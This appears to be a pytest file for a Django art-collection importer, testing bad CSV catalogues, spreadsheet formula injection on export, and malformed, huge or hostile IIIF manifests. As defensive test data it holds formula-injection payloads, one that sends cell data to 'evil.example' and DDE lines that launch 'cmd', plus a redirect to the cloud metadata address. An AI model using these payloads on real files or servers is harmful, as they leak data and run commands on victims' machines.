"""Bad catalogues: CSV files in the wrong encoding or shape, formula injection on export, IIIF manifests that
are malformed, hostile or huge. A bad row fails alone and the good rows are stored; a file that cannot be read
at all fails with a sentence saying why; nothing already stored is lost.

Already covered elsewhere (not repeated here), in tests/collections_app/test_importers.py: cp1252 files, a
row with bytes that are not UTF-8, rows with too many columns or a bad year, a missing key column, duplicate
ids, missing image files, a file that is not a manifest or not JSON, a manifest URL on a loopback address.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from collections_app.exports import EXPORT_COLUMNS
from collections_app.importers import run_import
from collections_app.importers.catalogue import CatalogueError, CsvStream, spreadsheet_safe
from collections_app.importers.folder import plan_folder_import
from collections_app.importers.iiif import load_manifest, plan_iiif_import
from collections_app.importers.remote import DOCUMENT_MAX_BYTES, FetchRefused
from collections_app.models import Artwork
from collections_app.services import ArtworkData, artwork_upsert
from tests.workers.image_server import ImageServer, image_server_fixture  # noqa: F401 - the fixture

IDS = ("A0003", "A0004", "A0005")


@pytest.fixture
def folder(art_dev: Path, tmp_path: Path) -> Path:
    target = tmp_path / "images"
    target.mkdir()
    for image_id in IDS:
        shutil.copy(art_dev / "images" / f"{image_id}.jpg", target / f"{image_id}.jpg")
    return target


def import_catalogue(folder: Path, catalogue: Path):  # type: ignore[no-untyped-def]
    return run_import(plan_folder_import(folder, catalog=catalogue).items, progress=False)


def errors_of(report) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {e.where: e.reason for e in report.errors}


# --- Encodings -------------------------------------------------------------------------------------------

TEXT = "id,title\nA0003,Vierge à l'Enfant – détail\nA0004,Ünterberg Madonna\n"


@pytest.mark.django_db
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
def test_unicode_catalogues_with_a_byte_order_mark_are_read(
    folder: Path, tmp_path: Path, encoding: str
) -> None:
    raw = TEXT.encode(encoding)
    if encoding == "utf-16-be":
        raw = b"\xfe\xff" + raw  # Python's utf-16-be writes no BOM; Excel's "Unicode text" does
    catalogue = tmp_path / "cat.csv"
    catalogue.write_bytes(raw)
    report = import_catalogue(folder, catalogue)
    assert report.created == 2, report.errors
    assert Artwork.objects.get(source_id="A0003").title == "Vierge à l'Enfant – détail"


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (TEXT.encode("utf-16-le"), "NUL bytes.*UTF-16 without a byte-order mark"),
        (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40, "spreadsheet workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40, "spreadsheet workbook"),
        (b"", "is empty"),
        (b",,,\nA0003,x,y,z\n", "no column names"),
        (b"id,title,Title\nA0003,x,y\n", "'title' more than once"),
    ],
    ids=["utf16-without-bom", "xlsx", "xls", "zero-byte", "no-header-names", "duplicate-columns"],
)
def test_unreadable_catalogues_fail_as_a_whole_with_a_reason(
    tmp_path: Path, raw: bytes, message: str
) -> None:
    catalogue = tmp_path / "cat.csv"
    catalogue.write_bytes(raw)
    with pytest.raises(CatalogueError, match=message):
        CsvStream(catalogue)


# --- Rows: each fails alone, the good ones are stored ---------------------------------------------------


@pytest.mark.django_db
def test_bad_rows_fail_alone_and_never_roll_back_good_ones(folder: Path, tmp_path: Path) -> None:
    catalogue = tmp_path / "cat.csv"
    catalogue.write_text(
        "id,title,begin_year\n"
        "A0003,Good first,1500\n"  # line 2
        f"A0004,{'x' * 200_000},1500\n"  # line 3: over csv's field limit
        "A0005,Nul\x00byte,1500\n"  # line 4
        "A0004,Title that is too long " + "y" * 1200 + ",1500\n"  # line 5: longer than the title field
        "A0005,Year out of range,99999999999\n"  # line 6
        'A0003,"Unclosed quote,1500\n'  # line 7: swallows the rest of the file
        "A0004,Never seen,1500\n"
    )
    report = import_catalogue(folder, catalogue)
    errors = errors_of(report)
    assert report.created == 1 and report.failed == 5, errors
    assert "field larger than field limit" in errors["cat.csv line 3"]
    assert "NUL" in errors["cat.csv line 4"]
    assert "title" in errors["cat.csv line 5"]
    assert "date_begin" in errors["cat.csv line 6"]
    assert "never closed: lines 7-8" in errors["cat.csv line 7"]
    assert Artwork.objects.get().title == "Good first"


@pytest.mark.django_db
def test_a_reimport_with_broken_rows_keeps_what_was_stored(folder: Path, tmp_path: Path) -> None:
    catalogue = tmp_path / "cat.csv"
    catalogue.write_text("id,title,medium,begin_year\nA0003,Kept title,Oil,1500\nA0004,Second,Tempera,1400\n")
    import_catalogue(folder, catalogue)
    before = list(Artwork.objects.order_by("pk").values_list("title", "medium", "date_begin", "image_sha256"))
    catalogue.write_text(
        'id,title,medium,begin_year\nA0003,Changed?,Changed?,not a year\nA0004,"Changed?,x,1\n'
    )
    report = import_catalogue(folder, catalogue)
    assert report.imported == 0 and report.failed == 2
    after = list(Artwork.objects.order_by("pk").values_list("title", "medium", "date_begin", "image_sha256"))
    assert after == before


# --- Formula injection: neutralised on export -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


@settings(max_examples=200, deadline=None)
@given(value=st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00")))
def test_export_cells_never_start_a_formula_and_read_back_unchanged(value: str) -> None:
    value = value.strip()
    cell = spreadsheet_safe(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([["id", "title"], ["X1", cell]])
    path = Path("/dev/null")  # CsvStream reads from a path: write to a real temporary file instead
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "export.csv"
        path.write_bytes(buffer.getvalue().encode("utf-8-sig"))
        rows = list(CsvStream(path))
    if value:
        assert [r.values for r in rows] == [{"id": "X1", "title": value}]


@pytest.fixture
def staff_client(django_user_model):  # type: ignore[no-untyped-def]
    from django.contrib.auth.models import Group
    from django.test import Client

    user = django_user_model.objects.create_user(username="cataloger", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Cataloger"))
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.django_db
def test_admin_csv_export_neutralises_formulas_and_reimports_unchanged(
    staff_client, folder: Path, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    for image_id, formula in zip(IDS, FORMULAS, strict=False):
        artwork_upsert(
            data=ArtworkData(
                source="local",
                source_id=image_id,
                title=formula,
                artists=[FORMULAS[1], "Jan van Eyck"],
                medium="@oil",
                description=FORMULAS[4],
                date_begin=-300,
                date_end=-250,
            ),
            image_bytes=(folder / f"{image_id}.jpg").read_bytes(),
            image_name=f"{image_id}.jpg",
            queue_processing=False,
        )
    before = {a.source_id: _record(a) for a in Artwork.objects.all()}
    response = staff_client.post(
        reverse("admin:collections_app_artwork_changelist"),
        {"action": "export_csv", "_selected_action": [a.pk for a in Artwork.objects.all()]},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == EXPORT_COLUMNS and len(rows) == 4
    for row in rows[1:]:
        for column, cell in zip(EXPORT_COLUMNS, row, strict=True):
            if column.endswith("_year"):
                assert cell.lstrip("-").isdigit()  # numbers stay numbers
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)

    # The export is a catalogue the importer reads back to the same records.
    exported = tmp_path / "export.csv"
    exported.write_bytes(response.content)
    report = import_catalogue(folder, exported)
    assert report.unchanged == 3 and report.failed == 0, report.errors
    assert {a.source_id: _record(a) for a in Artwork.objects.all()} == before


def _record(artwork: Artwork) -> tuple[Any, ...]:
    return (
        artwork.title,
        artwork.medium,
        artwork.description,
        artwork.date_begin,
        artwork.date_end,
        sorted(artwork.artists.values_list("name", flat=True)),
        artwork.extra,
    )


# --- IIIF manifests --------------------------------------------------------------------------------------

V3 = "http://iiif.io/api/presentation/3/context.json"
V2 = "http://iiif.io/api/presentation/2/context.json"
_scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=20))
_json = st.recursive(
    _scalar,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(
            st.sampled_from(
                [
                    "id",
                    "@id",
                    "type",
                    "@type",
                    "items",
                    "body",
                    "service",
                    "label",
                    "value",
                    "en",
                    "none",
                    "images",
                    "resource",
                    "canvases",
                    "metadata",
                    "profile",
                    "width",
                    "height",
                ]
            ),
            inner,
            max_size=5,
        ),
    ),
    max_leaves=25,
)
_manifest = st.fixed_dictionaries(
    {"@context": st.sampled_from([V2, V3, [V3], 5, None])},
    optional={
        "type": st.sampled_from(["Manifest", "Canvas", 7]),
        "@type": st.just("sc:Manifest"),
        "id": _json,
        "@id": _json,
        "label": _json,
        "metadata": _json,
        "items": _json,
        "sequences": _json,
        "summary": _json,
        "description": _json,
        "rights": _json,
        "license": _json,
        "requiredStatement": _json,
        "attribution": _json,
        "homepage": _json,
        "related": _json,
    },
)


@pytest.mark.django_db
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(manifest=_manifest, single=st.booleans())
def test_a_malformed_manifest_is_refused_or_imported_never_a_crash(
    manifest: dict[str, Any], single: bool
) -> None:
    try:
        plan = plan_iiif_import(manifest, name="fuzz.json", single=single)
    except CatalogueError as exc:
        assert str(exc)
        return
    report = run_import(plan.items, progress=False)
    assert report.imported + report.failed == len(plan.items)
    assert all(e.reason for e in report.errors)


def _canvas(n: int, label: Any = None) -> dict[str, Any]:
    return {
        "id": f"https://example.org/canvas/{n}",
        "type": "Canvas",
        "label": label if label is not None else {"en": [f"Leaf {n}"]},
        "items": [
            {
                "type": "AnnotationPage",
                "items": [
                    {
                        "type": "Annotation",
                        "body": {
                            "id": f"https://example.org/iiif/{n}/full/max/0/default.jpg",
                            "type": "Image",
                            "service": [{"id": f"https://example.org/iiif/{n}", "type": "ImageService3"}],
                        },
                    }
                ],
            }
        ],
    }


@pytest.mark.django_db
def test_hostile_text_in_a_manifest_fails_that_canvas_only() -> None:
    manifest = {
        "@context": V3,
        "id": "https://example.org/manifest",
        "type": "Manifest",
        "label": {"en": ["A book of hours"]},
        "items": [
            _canvas(1),
            _canvas(2, {"en": ["NUL\x00inside"]}),
            _canvas(3, {"en": ["x" * 5000]}),
            _canvas(4),
        ],
    }
    report = run_import(plan_iiif_import(manifest, name="m.json").items, progress=False)
    assert report.created == 2 and report.failed == 2, report.errors
    assert Artwork.objects.count() == 2


def test_deep_huge_and_many_canvas_manifests(tmp_path: Path) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(CatalogueError, match="nested too deeply"):
        load_manifest(str(deep))
    huge = tmp_path / "huge.json"
    with huge.open("wb") as handle:
        handle.truncate(DOCUMENT_MAX_BYTES + 1)  # sparse: no 20 MB written
    with pytest.raises(CatalogueError, match="over the manifest limit"):
        load_manifest(str(huge))
    many = {"@context": V3, "id": "m", "type": "Manifest", "items": [_canvas(n) for n in range(5000)]}
    assert len(plan_iiif_import(many, name="many.json").items) == 5000


def test_manifest_urls_are_bounded_in_size_and_time(image_server: ImageServer, settings) -> None:  # type: ignore[no-untyped-def]
    settings.SEMART_FETCH = {**settings.SEMART_FETCH, "allowed_hosts": ["127.0.0.1"], "timeout_s": 1.0}
    big = b"[" + b" " * (DOCUMENT_MAX_BYTES + 10) + b"]"
    for declared in (None, -1):  # a Content-Length over the limit, and none (cut while reading)
        url = image_server.route(
            f"/big{declared}.json", body=big, content_type="application/json", declared_length=declared
        )
        with pytest.raises(FetchRefused, match="too large"):
            load_manifest(url)
    slow = image_server.route(
        "/slow.json",
        body=json.dumps({"a": "b" * 100}).encode(),
        content_type="application/json",
        trickle_s=0.05,
    )
    with pytest.raises(FetchRefused, match="too slow"):
        load_manifest(slow)
    page = image_server.route("/login", body=b"<html>Sign in</html>", content_type="text/html")
    with pytest.raises(FetchRefused, match="text/html"):
        load_manifest(page)
    hop = image_server.route("/hop.json", status=302, location="http://169.254.169.254/latest/meta-data/")
    with pytest.raises(FetchRefused, match="169.254.169.254"):
        load_manifest(hop)
